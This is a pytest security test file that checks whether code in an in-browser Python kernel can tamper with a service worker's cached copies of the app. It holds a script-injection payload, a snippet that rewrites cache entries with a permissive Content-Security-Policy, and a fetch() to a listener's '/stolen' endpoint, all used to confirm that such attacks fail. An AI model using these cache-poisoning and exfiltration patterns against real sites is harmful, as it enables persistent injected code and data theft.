"""On a host with one origin, code in the kernel changes the service worker's saved copies."""

from __future__ import annotations

import contextlib
import itertools
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from selenium.common.exceptions import WebDriverException
from selenium.webdriver import Chrome

from gemini_testing import Surface
from gemini_testing.pool import BrowserPool
from tests.attacks.listener import Listener
from tests.tiers import sampled
from tests.web.test_offline import Host, build_of, wait_until_saved

pytestmark = pytest.mark.extended

HACK = "for (const each of [window, parent]) each.document.documentElement.dataset.hacked = 'yes';"
# Replacements of copies: name, content, type.
CHANGED = {
    "the page": ("", f"<!doctype html><html data-kernel=ready><script>{HACK}</script>", "text/html"),
    "the frame of the kernel": (
        "{build}/kernel.html",
        f"<!doctype html><script>{HACK}</script>",
        "text/html",
    ),
    "the script of the page": ("{build}/ui.js", HACK, "text/javascript"),
    "the page script": ("{build}/gemini-page.js", HACK, "text/javascript"),
    "a part of the page": ("{build}/ui-terminal.js", f"{HACK}; export const x = 1", "text/javascript"),
    "the script of the frame": ("{build}/kernel_frame.js", HACK, "text/javascript"),
    "the style of the page": ("{build}/ui.css", "html { --hacked: yes }", "text/css"),
}
REPLACE = """
import js
from pyodide.code import run_js
await run_js('''async (url, text, type) => {{
  const headers = {{ "Content-Type": type, "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'" }};
  for (const name of await caches.keys()) {{
    const cache = await caches.open(name);
    if (await cache.match(url)) await cache.put(url, new Response(text, {{ headers }}));
  }}
}}''')({url!r}, {text!r}, {type!r})
"""


class Place:
    """A host with one origin that can be stopped and restarted, and a browser that visits it."""

    def __init__(self, dist: Path, driver: Chrome) -> None:
        self._dist = dist
        self._host: Host | None = Host(dist, True)
        self.surface = Surface(driver, self._host.url)

    def stop_host(self) -> None:
        if self._host:
            self._host.stop()
            self._host = None

    def start_host(self) -> None:
        if self._host is None:
            self._host = Host(self._dist, True, urlsplit(self.surface.url).port or 0)


@pytest.fixture(scope="module")
def place(surface_dist: Path, browsers: BrowserPool) -> Iterator[Place]:
    place = Place(surface_dist, browsers.take())
    yield place
    browsers.give_back(place.surface.driver)
    place.stop_host()


@pytest.fixture
def visited(place: Place) -> Surface:
    """Return a page whose copies are saved."""
    place.start_host()
    place.surface.reload(fresh=True)
    wait_until_saved(place.surface)
    return place.surface


def replace_copy(surface: Surface, name: str, text: str, type: str) -> str:
    """Replace a copy, as code in the kernel can, and return its address."""
    url = surface.url + name.format(build=build_of(surface))
    surface.python(REPLACE.format(url=url, text=text, type=type))
    return url


@pytest.mark.parametrize(
    ("changed", "network"), sampled(itertools.product(CHANGED, ["online", "offline"]), every=22)
)
def test_no_changed_copy_runs_in_the_page(visited: Surface, place: Place, changed: str, network: str) -> None:
    replace_copy(visited, *CHANGED[changed])
    if network == "offline":
        place.stop_host()

    # If the page isn't served, the browser reports an error.
    with contextlib.suppress(WebDriverException):
        visited.driver.get(visited.url)
    name, _, _ = CHANGED[changed]
    if "frame" in name or "kernel" in name:
        visited.wait_for("['ready', 'failed'].includes(document.documentElement.dataset.kernel)")

    assert not visited.driver.execute_script("return document.documentElement.dataset.hacked")
    styled = "return getComputedStyle(document.documentElement).getPropertyValue('--hacked')"
    assert visited.driver.execute_script(styled) == ""


def test_a_changed_script_of_the_kernel_is_still_bound_by_its_policy(visited: Surface) -> None:
    outside = Listener()
    with outside.listening():
        leak = f"fetch('{outside.url}/stolen', {{ mode: 'no-cors' }})"
        text = f"{leak}.finally(() => postMessage({{ type: 'failed', reason: 'it leaked, or could not' }}))"
        replace_copy(visited, "{build}/kernel.js", text, "text/javascript")

        visited.load(wait=False)
        visited.wait_for("document.documentElement.dataset.kernel === 'failed'")

        assert outside.received(visited) == []


def test_a_copy_of_a_script_can_not_become_a_document(visited: Surface) -> None:
    url = replace_copy(visited, "{build}/kernel.js", f"<script>{HACK}</script>", "text/html")

    visited.javascript(
        "const frame = Object.assign(document.createElement('iframe'), { src: arguments[0] });"
        "await new Promise((onload) => { frame.onload = onload; document.body.append(frame); }); frame.remove();",
        url,
    )

    assert not visited.driver.execute_script("return document.documentElement.dataset.hacked")
